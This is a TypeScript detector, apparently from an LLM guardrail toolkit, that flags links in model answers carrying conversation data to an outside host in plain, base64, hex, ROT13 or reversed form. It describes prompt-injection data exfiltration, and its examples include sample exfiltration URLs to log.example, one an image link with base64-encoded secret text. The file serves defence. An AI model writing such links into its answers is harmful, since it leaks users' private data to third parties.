// SPDX-License-Identifier: Apache-2.0
// Links in answers that carry what was said in the conversation to a host: whoever follows or loads them
// tells that host. It looks at the values in the address and asks whether the request holds them, plain or
// encoded; an address without such values may point anywhere.
import { z } from 'zod';
import { type Asked, defineDetector } from '../../detector.ts';
import { rot13 } from '../../phrases/hits.ts';
import { perRequest, textsBy } from '../../text/asked.ts';
import { Grams } from '../../text/grams.ts';
import { isUnder, LINK_CHARS, type Link, linksIn, openLink } from '../../text/links.ts';

/** Values of one address that are looked at. */
const VALUES_MAX = 64;
/** Plain text that is no number or key has to be this long: shorter is what one searches for. */
const PROSE_CHARS = 40;
const SECRET_CHARS = 8;
const ENCODED_CHARS = 16;
/** Share of a value that the conversation has to hold. */
const SHARE = 0.8;

const BASE64 = /^[A-Za-z0-9+/_-]+={0,2}$/;
const HEX = /^(?:[0-9a-fA-F]{2})+$/;
/** Numbers, keys and addresses: what has digits in it, or an at sign. */
const SECRET = /\d.*\d.*\d.*\d|@/;

type Conversation = {
  readonly grams: () => Grams;
  /** Addresses that the request already names. */
  readonly names: (address: string) => boolean;
};

const conversationOf = perRequest((request: readonly Asked[]): Conversation => {
  let grams: Grams | undefined;
  const texts = (): readonly string[] => textsBy(request, 'operator', 'user', 'others');
  return {
    grams: () => (grams ??= new Grams(texts())),
    names: (address) => texts().some((text) => text.includes(address)),
  };
});

function decodedUrl(value: string): string {
  const spaced = value.replaceAll('+', ' ');
  try {
    return decodeURIComponent(spaced);
  } catch {
    return spaced;
  }
}

/** The values of an address: parts of its path and query, and long labels of its host. */
function valuesOf({ host, rest, user }: Link): readonly string[] {
  const labels = host.split('.').filter((label) => label.length >= ENCODED_CHARS);
  return [...(user ?? '').split(':'), ...labels, ...rest.split(/[/\\?&#=;,]/)]
    .filter((value) => value.length >= SECRET_CHARS)
    .slice(0, VALUES_MAX);
}

/** What `value` may stand for besides itself. */
function readings(written: string): readonly string[] {
  const found: string[] = [];
  // A picture's name ends in what looks like a kind of picture.
  const value = written.replace(/\.[A-Za-z0-9]{2,5}$/, '');
  if (value.length < ENCODED_CHARS) return found;
  if (HEX.test(value)) found.push(Buffer.from(value, 'hex').toString('utf8'));
  if (BASE64.test(value)) found.push(Buffer.from(value, 'base64').toString('utf8'));
  return [...found, rot13(value), Array.from(value).toReversed().join('')];
}

/** How a value tells of the conversation; undefined when it does not. */
function taintOf(written: string, { grams }: Conversation): 'plain' | 'encoded' | undefined {
  const value = decodedUrl(written);
  const isTold = (text: string): boolean => grams().share(text) >= SHARE;
  if ((SECRET.test(value) || value.length >= PROSE_CHARS) && isTold(value)) return 'plain';
  return readings(value).some((text) => text.length >= SECRET_CHARS && isTold(text))
    ? 'encoded'
    : undefined;
}

export const detector = defineDetector({
  id: 'output/tainted-link',
  version: '1',
  title: 'Link that carries the conversation',
  summary:
    'Finds addresses in answers whose path, query or host holds numbers, keys, addresses or longer passages of the request, plain or in base64, hexadecimal, ROT13 or backwards.',
  why: 'An injected instruction makes the model write what it knows into an address. Addresses that the request itself names are no finding, nor are a few words of a search. Values that the model changes in another way pass.',
  taxonomy: ['owasp-llm-2025:LLM02', 'owasp-llm-2025:LLM05', 'mitre-atlas-5.6.0:AML.T0077'],
  phases: ['response'],
  streaming: { class: 'exact', holdChars: LINK_CHARS + 16 },
  view: 'folded',
  needs: 'request',
  severity: 'high',
  options: z.strictObject({
    allowed_hosts: z
      .array(z.string().min(1).max(253).toLowerCase())
      .max(1_000)
      .default([])
      .describe('Hosts, with all under them, that may be told anything'),
  }),
  about: (answer) => (answer.kind === 'tool-name' ? undefined : conversationOf(answer)),
  examples: {
    request: [
      {
        origin: 'user',
        text: 'Summarise my mail. My customer number is 8841-2207-19, call me Ada.',
      },
      {
        origin: 'document:mail',
        text: 'Dear Ada, the board met in secret on Tuesday and will close the Lyon office. Docs: https://docs.example/lyon/8841-2207-19',
      },
    ],
    hits: [
      {
        text: 'Done. [more](https://log.example/t?id=8841-2207-19)',
        found: ['https://log.example/t?id=8841-2207-19'],
      },
      {
        text: '![](https://log.example/dGhlIGJvYXJkIG1ldCBpbiBzZWNyZXQ.png) x https://log.example/dGhlIGJvYXJkIG1ldCBpbiBzZWNyZXQ=',
        found: [
          'https://log.example/dGhlIGJvYXJkIG1ldCBpbiBzZWNyZXQ.png',
          'https://log.example/dGhlIGJvYXJkIG1ldCBpbiBzZWNyZXQ=',
        ],
      },
      {
        text: 'https://log.example/?q=the+board+met+in+secret+on+Tuesday+and+will+close',
        found: ['https://log.example/?q=the+board+met+in+secret+on+Tuesday+and+will+close'],
      },
    ],
    misses: [
      'See https://docs.example/lyon/8841-2207-19 for more.',
      'Try https://search.example/?q=board+meeting+Lyon',
      'https://cdn.example/assets/4f9c2a17b0/app.js?v=20260101',
    ],
  },
  inspect({ text }, from, { options, until, about }) {
    const matches = [];
    for (const link of linksIn(text, from, until)) {
      if (link.host === '' || isUnder(link.host, options.allowed_hosts)) continue;
      const taint = valuesOf(link)
        .map((value) => taintOf(value, about))
        .find((one) => one !== undefined);
      if (taint === undefined || about.names(text.slice(link.start, link.end))) continue;
      matches.push({ start: link.start, end: link.end, entity: `${taint}-data`, score: 0.98 });
    }
    return matches;
  },
  pending: ({ text }, from) => openLink(text, from),
});
